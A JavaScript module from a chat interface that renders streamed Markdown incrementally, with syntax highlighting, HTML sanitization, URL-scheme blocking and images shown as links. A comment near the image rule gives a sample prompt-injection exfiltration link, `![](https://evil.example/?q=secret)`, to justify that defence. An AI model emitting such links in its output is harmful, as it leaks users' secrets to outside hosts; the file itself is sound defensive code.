// BlockRenderer: incremental Markdown rendering for StreamingMessage (streaming_message.js).
//
// markdown-it (raw HTML off, one HTML string per top-level block) -> highlight.js for fenced code -> DOMPurify and
// DOM insertion for the changed blocks only. While the answer streams, every block before the last one is frozen:
// it is neither parsed nor rendered again, so the work per delta does not grow with the answer. When the answer
// ends, one full render of the whole text replaces the streamed one (blocks whose HTML is unchanged keep their DOM
// nodes), so the final page is exactly the render of the whole answer.
// Everything in the text is untrusted (model output, user input).
import MarkdownIt from "markdown-it";
import hljs from "highlight";
import DOMPurify from "dompurify";

const AUTO_DETECT_MAX_CHARS = 20000; // highlightAuto runs every grammar: only for final renders of moderate blocks
const UNSAFE_URL = /^\s*(javascript|vbscript|file|data):/i;
const HIGHLIGHT_CACHE_SIZE = 200; // finished code blocks are re-rendered every frame while the answer streams
const highlightCache = new Map();
let autoDetect = false; // set around each (synchronous) render: no highlightAuto while streaming

function highlightUncached(code, lang) {
  try {
    if (lang && hljs.getLanguage(lang)) {
      const html = hljs.highlight(code, { language: lang, ignoreIllegals: true }).value;
      return `<pre><code class="hljs language-${md.utils.escapeHtml(lang)}">${html}</code></pre>`;
    }
    if (!lang && autoDetect && code.length <= AUTO_DETECT_MAX_CHARS) {
      return `<pre><code class="hljs">${hljs.highlightAuto(code).value}</code></pre>`;
    }
  } catch (error) {
    console.warn("highlight.js failed", error);
  }
  return ""; // markdown-it escapes the code itself
}

function highlight(code, lang) {
  const key = `${autoDetect ? "auto" : ""}\0${lang}\0${code}`;
  let html = highlightCache.get(key);
  if (html === undefined) {
    html = highlightUncached(code, lang);
    if (highlightCache.size >= HIGHLIGHT_CACHE_SIZE) highlightCache.clear();
    highlightCache.set(key, html);
  }
  return html;
}

const md = new MarkdownIt({ html: false, linkify: true, breaks: true, highlight });
md.validateLink = (url) => !UNSAFE_URL.test(url);
// Images from untrusted text are shown as links: loading them would let a prompt-injected answer send data to any
// host (`![](https://evil.example/?q=secret)`) the moment it is rendered.
md.renderer.rules.image = (tokens, idx, options, env, self) => {
  const token = tokens[idx];
  const src = token.attrGet("src") || "";
  const alt = self.renderInlineAsText(token.children || [], options, env) || src;
  const esc = md.utils.escapeHtml;
  return `<a href="${esc(src)}" class="parley-image-link"><span class="parley-image-label">Image:</span> ${esc(alt)}</a>`;
};

/**
 * Render Markdown to one HTML string per top-level block, so unchanged blocks can be recognised and kept.
 * Returns [{ html, line }], `line` being the 0-based source line where the block starts.
 */
function renderBlocks(src) {
  const env = {};
  const tokens = md.parse(src, env);
  const blocks = [];
  let start = 0;
  const take = (end) => {
    const html = md.renderer.render(tokens.slice(start, end), md.options, env);
    if (html !== "") blocks.push({ html, line: tokens[start].map ? tokens[start].map[0] : 0 });
    start = end;
  };
  for (let i = 0; i < tokens.length; i++) {
    if (tokens[i].level === 0 && tokens[i].nesting <= 0) take(i + 1); // the end of a top-level block
  }
  if (start < tokens.length) take(tokens.length);
  return blocks;
}

/** Index in `text` where its 0-based line `line` starts. */
function lineStart(text, line) {
  let index = 0;
  for (let i = 0; i < line; i++) {
    index = text.indexOf("\n", index) + 1;
    if (index === 0) return text.length;
  }
  return index;
}

function sanitize(html) {
  const fragment = DOMPurify.sanitize(html, { RETURN_DOM_FRAGMENT: true });
  for (const link of fragment.querySelectorAll("a[href]")) {
    link.setAttribute("target", "_blank");
    link.setAttribute("rel", "noopener noreferrer");
  }
  return fragment;
}

export class BlockRenderer {
  /** @param {(fragment: DocumentFragment) => void} decorate called with each new block's DOM before it is shown */
  constructor(decorate) {
    this.decorate = decorate;
    this.blocks = []; // what the container shows: [{ html: block rendered by markdown-it, nodes: [DOM nodes] }]
    this.frozenBlocks = 0; // while streaming: this.blocks[0 .. frozenBlocks) are final until the full render at the end
    this.frozenAt = 0; // ... and they are the render of text[0 .. frozenAt)
  }

  /** The text was replaced: the next render freezes nothing it has not rendered itself. */
  unfreeze() {
    this.frozenBlocks = this.frozenAt = 0;
  }

  /** The whole text, highlighted with language detection: the final render. */
  renderAll(container, text) {
    autoDetect = true;
    try {
      this.patch(container, renderBlocks(text), 0);
    } finally {
      autoDetect = false;
    }
    this.unfreeze();
  }

  /** While streaming: only the text after the frozen blocks; then freeze every block but the (unfinished) last. */
  renderTail(container, text) {
    const tail = text.slice(this.frozenAt);
    const blocks = renderBlocks(tail);
    this.patch(container, blocks, this.frozenBlocks);
    // markdown-it counts lines after normalizing "\r\n": only freeze when the line numbers are the tail's own
    if (blocks.length > 1 && !tail.includes("\r")) {
      this.frozenAt += lineStart(tail, blocks[blocks.length - 1].line);
      this.frozenBlocks = this.blocks.length - 1;
    }
  }

  /** Make this.blocks[from ..] show `blocks`, keeping the DOM of the leading ones whose HTML is unchanged. */
  patch(container, blocks, from) {
    // Unchanged blocks keep their DOM (and with it selections and hovered copy buttons); only the changed tail is
    // sanitized (the costliest step) and put into the DOM.
    let same = from;
    while (same < this.blocks.length && same - from < blocks.length && this.blocks[same].html === blocks[same - from].html)
      same++;
    for (const block of this.blocks.splice(same)) block.nodes.forEach((node) => node.remove());
    for (let i = same - from; i < blocks.length; i++) {
      const fragment = sanitize(blocks[i].html);
      this.decorate(fragment);
      this.blocks.push({ html: blocks[i].html, nodes: Array.from(fragment.childNodes) });
      container.appendChild(fragment);
    }
  }
}
